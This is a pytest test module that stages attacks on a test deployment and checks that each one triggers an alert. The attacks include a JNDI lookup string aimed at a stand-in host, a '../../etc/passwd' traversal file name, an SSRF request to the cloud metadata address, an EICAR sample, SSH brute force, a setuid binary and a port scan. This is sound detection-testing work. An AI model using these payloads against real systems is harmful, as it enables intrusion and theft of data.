"""Attacks on a running environment: each raises its alert within half a minute."""

import base64
import hashlib
import shlex
import socket
import ssl
import subprocess
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from kubernetes import client
from kubernetes.stream import stream

from tests.local.conftest import Environment
from tests.local.probes import image, pod
from tests.means.clamd import EICAR
from tests.means.generator import generate

pytestmark = pytest.mark.timeout(900)

SECONDS = 30
SEEN = 6  # seconds that a changed file stays: samhain looks every two
NAMESPACE = "processing"


@dataclass(frozen=True)
class Attacked:
    """The environment as an attacker and as an operator see it."""

    environment: Environment
    api: client.ApiClient
    found: dict[str, Any]
    operations: httpx.Client

    def alerts(self, title: str, since: datetime) -> list[dict[str, Any]]:
        """Alerts of a rule whose last record is not older than that."""
        answer = self.operations.get("/operations/v1/alerts", params={"size": 1000}).raise_for_status()
        return [
            alert
            for alert in answer.json()["value"]
            if alert["title"] == title and datetime.fromisoformat(alert["last_seen"]) >= since
        ]

    def on_node(self, command: str, *, check: bool = True) -> str:
        """What root's command on the worker says."""
        login = [
            "ssh",
            "-i",
            str(self.environment.home / "ssh" / "id_ed25519"),
            *self._options(),
            f"root@{self.worker}",
        ]
        done = subprocess.run([*login, command], capture_output=True, text=True, check=False, timeout=60)
        assert not check or done.returncode == 0, done.stderr
        return done.stdout

    def guess(self) -> None:
        """Try to log in as somebody who isn't there."""
        options = [*self._options(), "-o", "BatchMode=yes", "-o", "PubkeyAuthentication=no"]
        subprocess.run(["ssh", *options, f"mallory@{self.worker}", "id"], capture_output=True, check=False, timeout=60)

    @property
    def worker(self) -> str:
        """Address of the worker."""
        return self._host["ansible_host"]

    def _options(self) -> list[str]:
        return shlex.split(self._host["ansible_ssh_common_args"])

    @property
    def _host(self) -> dict[str, str]:
        groups = self.environment.inventory()["all"]["children"]["kubernetes"]["children"]
        host: dict[str, str] = groups["worker"]["hosts"]["w1"]
        return host


@pytest.fixture(scope="module")
def attacked(environment: Environment, cluster: client.ApiClient) -> Iterator[Attacked]:
    found = environment.endpoints()
    trust = ssl.create_default_context(cafile=found["ca_file"])
    with httpx.Client(base_url=found["operations_url"], verify=trust, timeout=30) as operations:
        subject = Attacked(environment, cluster, found, operations)
        operations.headers.update(environment.bearer())
        yield subject


def brute_force(attacked: Attacked) -> None:
    for _ in range(6):
        attacked.guess()


def sudo_abuse(attacked: Attacked) -> None:
    attacked.on_node("runuser -u nobody -- sudo -n id", check=False)


def changed_binary(attacked: Attacked) -> None:
    attacked.on_node(
        f"cp -a /usr/bin/last /root/kept && echo more >>/usr/bin/last; sleep {SEEN}; mv /root/kept /usr/bin/last"
    )


def setuid_file(attacked: Attacked) -> None:
    attacked.on_node(
        f"cp /usr/bin/id /usr/bin/of-mallory && chmod 4755 /usr/bin/of-mallory; sleep {SEEN}; rm /usr/bin/of-mallory"
    )


def crafted_packet(attacked: Attacked) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.5/a}\r\n\r\n", (attacked.worker, 9))


def port_scan(attacked: Attacked) -> None:
    for port in range(1000, 1060):
        with socket.socket() as probe:
            probe.setblocking(False)
            probe.connect_ex((attacked.worker, port))


def shell_in_container(attacked: Attacked) -> None:
    core = client.CoreV1Api(attacked.api)
    name = core.list_namespaced_pod(NAMESPACE, label_selector="app.kubernetes.io/name=publisher").items[0].metadata.name
    enter = core.connect_get_namespaced_pod_exec
    said = stream(enter, name, NAMESPACE, command=["sh", "-c", "id -u"], stdout=True, stderr=True, _request_timeout=30)
    assert said.strip() == "65532"


def lateral_connection(attacked: Attacked) -> None:
    """Let a pod try the directory, of which it needs nothing."""
    core = client.CoreV1Api(attacked.api)
    address = core.read_namespaced_service("openldap", "iam").spec.cluster_ip
    name = core.list_namespaced_pod(NAMESPACE, label_selector="app.kubernetes.io/name=publisher").items[0].metadata.name
    attempt = f"import socket; socket.create_connection(({address!r}, 636), 8)"
    enter = core.connect_get_namespaced_pod_exec
    said = stream(enter, name, NAMESPACE, command=["python3", "-c", attempt], stderr=True, _request_timeout=30)
    assert "TimeoutError" in said


def privileged_pod(attacked: Attacked) -> None:
    manifest = pod("privileged", image(attacked.api))
    manifest["spec"]["containers"][0]["securityContext"] = {"privileged": True}
    with pytest.raises(client.ApiException) as refused:
        client.CoreV1Api(attacked.api).create_namespaced_pod(NAMESPACE, manifest)
    assert refused.value.status == 403


def pod_without_right(attacked: Attacked) -> None:
    core = client.CoreV1Api(attacked.api)
    wanted = {"spec": {"expirationSeconds": 600}}
    token = core.create_namespaced_service_account_token("publisher", NAMESPACE, wanted).status.token
    assert _ask(attacked, "/api/v1/secrets", {"Authorization": f"Bearer {token}"}) == 403


def anonymous_request(attacked: Attacked) -> None:
    assert _ask(attacked, "/api/v1/secrets", {}) in {401, 403}


def _ask(attacked: Attacked, path: str, headers: dict[str, str]) -> int:
    trust = ssl.create_default_context(cafile=attacked.api.configuration.ssl_ca_cert)
    return httpx.get(f"{attacked.api.configuration.host}{path}", headers=headers, verify=trust).status_code


def forged_tokens(attacked: Attacked) -> None:
    trust = ssl.create_default_context(cafile=attacked.found["ca_file"])
    with httpx.Client(base_url=attacked.found["prip_url"], verify=trust) as outside:
        for number in range(25):
            answer = outside.get("/odata/v1/Products", headers={"Authorization": f"Bearer forged-{number}"})
            assert answer.status_code == 401


def infected(folder: Path) -> Path:
    """An orbit file as it should be, but for a comment."""
    (orbit,) = generate(folder, 1, seed=666)
    orbit.write_bytes(orbit.read_bytes().replace(b"</Data_Block>", b"<!--" + EICAR + b"--></Data_Block>"))
    return orbit


def virus(attacked: Attacked) -> None:
    trust = ssl.create_default_context(cafile=attacked.found["ca_file"])
    with (
        tempfile.TemporaryDirectory() as folder,
        httpx.Client(base_url=attacked.found["ingestor_url"], verify=trust, timeout=30) as uploader,
    ):
        file = infected(Path(folder))
        name, offered = file.name, file.read_bytes()
        told = {"filename": name, "checksum": f"SHA-256 {hashlib.sha256(offered).hexdigest()}"}
        metadata = ",".join(f"{key} {base64.b64encode(value.encode()).decode()}" for key, value in told.items())
        uploader.headers.update(attacked.environment.bearer() | {"Tus-Resumable": "1.0.0"})
        length = {"Upload-Length": str(len(offered)), "Upload-Metadata": metadata}
        made = uploader.post("/ingestor/v1/uploads", headers=length)
        assert made.status_code == 201, made.text
        body = {"Upload-Offset": "0", "Content-Type": "application/offset+octet-stream"}
        assert uploader.patch(made.headers["Location"], content=offered, headers=body).status_code == 204


def path_traversal(attacked: Attacked) -> None:
    trust = ssl.create_default_context(cafile=attacked.found["ca_file"])
    name = base64.b64encode(b"../../etc/passwd").decode()
    headers = attacked.environment.bearer() | {
        "Tus-Resumable": "1.0.0",
        "Upload-Length": "1",
        "Upload-Metadata": f"filename {name}",
    }
    address = f"{attacked.found['ingestor_url']}/ingestor/v1/uploads"
    assert httpx.post(address, headers=headers, verify=trust).status_code == 400


def inside_address(attacked: Attacked) -> None:
    """Ask for notifications to the address where clouds tell their secrets."""
    trust = ssl.create_default_context(cafile=attacked.found["ca_file"])
    wanted = {"SubscriptionType": "push", "FilterParam": "startswith(Name,'S1')"}
    wanted["NotificationEndpoint"] = "https://169.254.169.254/latest/meta-data"
    address = f"{attacked.found['prip_url']}/odata/v1/Subscriptions"
    assert httpx.post(address, json=wanted, headers=attacked.environment.bearer(), verify=trust).status_code == 400


ATTACKS: dict[str, Callable[[Attacked], None]] = {
    "SSH brute force": brute_force,
    "Sudo abuse": sudo_abuse,
    "System file changed": changed_binary,
    "New setuid file": setuid_file,
    "Network attack": crafted_packet,
    "Port scan": port_scan,
    "Shell in a container": shell_in_container,
    "Lateral connection refused": lateral_connection,
    "Privileged pod refused": privileged_pod,
    "API request without right": pod_without_right,
    "Anonymous API request": anonymous_request,
    "Many tokens refused at the gateway": forged_tokens,
    "Virus found": virus,
    "Hostile file name": path_traversal,
    "Forbidden address asked for": inside_address,
}


@pytest.mark.parametrize("title", ATTACKS)
def test_an_attack_raises_an_alert(attacked: Attacked, title: str) -> None:
    begin = datetime.now(UTC) - timedelta(seconds=1)
    ATTACKS[title](attacked)
    done = time.monotonic()
    while not (alerts := attacked.alerts(title, begin)):
        assert time.monotonic() - done < SECONDS, f"no alert {title!r} within {SECONDS} s"
        time.sleep(0.5)
    print(f"{title}: {time.monotonic() - done:.1f} s after the attack")  # noqa: T201 - pytest shows it with -rP
    assert alerts[0]["evidence"], "an alert shows what was seen"
    assert Path(alerts[0]["runbook"]).suffix == ".md"


def test_a_file_with_a_virus_is_never_published(attacked: Attacked, tmp_path: Path) -> None:
    trust = ssl.create_default_context(cafile=attacked.found["ca_file"])
    asked = {"$filter": f"Name eq '{infected(tmp_path).name}'"}
    with httpx.Client(base_url=attacked.found["prip_url"], verify=trust, headers=attacked.environment.bearer()) as prip:
        found = prip.get("/odata/v1/Products", params=asked).raise_for_status()
        assert found.json()["value"] == []
